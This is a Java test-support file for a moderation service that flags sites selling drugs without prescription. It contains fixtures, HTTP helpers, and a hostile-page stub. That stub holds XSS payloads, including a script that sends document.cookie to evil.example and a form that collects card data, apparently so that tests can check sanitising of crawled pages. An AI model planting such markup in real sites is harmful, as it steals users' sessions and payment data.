package org.clinicverify.moderation;

import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;

import io.micronaut.context.annotation.Requires;
import io.micronaut.core.annotation.Nullable;
import io.micronaut.http.HttpRequest;
import io.micronaut.http.HttpStatus;
import io.micronaut.http.client.BlockingHttpClient;
import io.micronaut.http.client.exceptions.HttpClientResponseException;
import jakarta.inject.Singleton;
import org.clinicverify.directory.Listing;
import org.clinicverify.score.Category;
import org.clinicverify.score.Evidence;
import org.clinicverify.score.Signal;
import org.clinicverify.score.Verdict;
import org.clinicverify.testsupport.TestApp;

/** Shared helpers of the moderation tests. */
final class ModerationTestSupport {

    static final String PASSWORD = "correct horse battery";

    private ModerationTestSupport() {
    }

    /** H2 (or PostgreSQL) plus cheap bcrypt, so tests spend their time on behaviour. */
    static Map<String, String> properties(Map<String, Object> database) {
        Map<String, Object> properties = database;
        properties.put("clinicverify.moderation.bcrypt-strength", 4);
        properties.put("clinicverify.security.jwt-secret", "test-secret-test-secret-test-secret-0123");
        properties.put("test.moderation.fixtures", true);
        // A random port: other test JVMs on this machine may hold 8080.
        properties.put("micronaut.server.port", -1);
        return TestApp.asStrings(properties);
    }

    static HttpStatus status(BlockingHttpClient http, HttpRequest<?> request) {
        try {
            return http.exchange(request, String.class).getStatus();
        } catch (HttpClientResponseException e) {
            return e.getStatus();
        }
    }

    static String body(BlockingHttpClient http, HttpRequest<?> request) {
        try {
            return http.exchange(request, String.class).body();
        } catch (HttpClientResponseException e) {
            return e.getResponse().getBody(String.class).orElse("");
        }
    }

    @SuppressWarnings("unchecked")
    static String bearer(BlockingHttpClient http, String username) {
        Map<String, Object> token = http.retrieve(HttpRequest.POST("/api/v1/auth/token",
                Map.of("username", username, "password", PASSWORD)), Map.class);
        return (String) token.get("accessToken");
    }

    static Verdict flaggedVerdict(int trustScore, String snippet) {
        return new Verdict(Category.SELLER, true, trustScore, List.of(new Signal("sells-without-prescription", -40,
                "Sells ketamine without a prescription", List.of(new Evidence(snippet, "https://x.example/shop")))),
                List.of(), "test-1");
    }

    static Verdict cleanVerdict() {
        return new Verdict(Category.CLINIC, false, 85, List.of(), List.of(), "test-1");
    }

    static Listing listing(String host, boolean flagged, @Nullable String verdictJson) {
        return listing(host, flagged, false, verdictJson);
    }

    static Listing listing(String host, boolean flagged, boolean underReview, @Nullable String verdictJson) {
        return new Listing(null, host, "Listing of " + host, null, "Denver", "CO", null, "US", null, null, null,
                "https://" + host + "/", List.of(), List.of(), List.of(), List.of(), "seller", flagged, underReview, 10,
                false, verdictJson, "test-1", Instant.parse("2026-11-01T00:00:00Z"), null, null, null);
    }

    /** The rules flagged the site, the text model withdrew the flag: the scorer is in doubt. */
    static Verdict doubtedVerdict() {
        return new Verdict(Category.TELEHEALTH, false, 40, List.of(new Signal(Verdict.MODEL_DOUBT, 0,
                "The page's words do not read as a seller's", List.of(new Evidence("telehealth 0.81", "https://doubt.example/")))),
                List.of(), "test-1");
    }

    /** Stands in for the Pipeline's re-indexer: records which sites it was told about. */
    @Singleton
    @Requires(property = "test.moderation.fixtures", value = "true")
    static final class RecordingListener implements ListingChangeListener {
        final List<String> changed = new CopyOnWriteArrayList<>();

        @Override
        public void listingsChanged(String siteHost) {
            changed.add(siteHost);
        }
    }

    /** A stored page with hostile markup, as a crawled seller could serve it. */
    @Singleton
    @io.micronaut.context.annotation.Primary
    @Requires(property = "test.moderation.fixtures", value = "true")
    static final class HostileSnapshots implements SnapshotSource {
        static final String PAGE = """
                <html><head><script>fetch('https://evil.example/steal?c='+document.cookie)</script>
                <link rel="stylesheet" href="https://evil.example/s.css"></head>
                <body onload="alert(1)"><h1>Buy ketamine <img src=x onerror="alert('xss')"></h1>
                <p style="background:url(https://evil.example/px)">No prescription needed
                <a href="javascript:alert(2)">order</a> <a href="https://evil.example/shop">shop</a></p>
                <iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/pay">
                <input name="card"></form><svg onload="alert(3)"></svg></body></html>""";

        @Override
        public List<PageSnapshot> latestPages(String siteHost) {
            return List.of(new PageSnapshot("https://" + siteHost + "/shop", Instant.parse("2026-11-01T00:00:00Z"),
                    "text/html", PAGE.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        }
    }
}
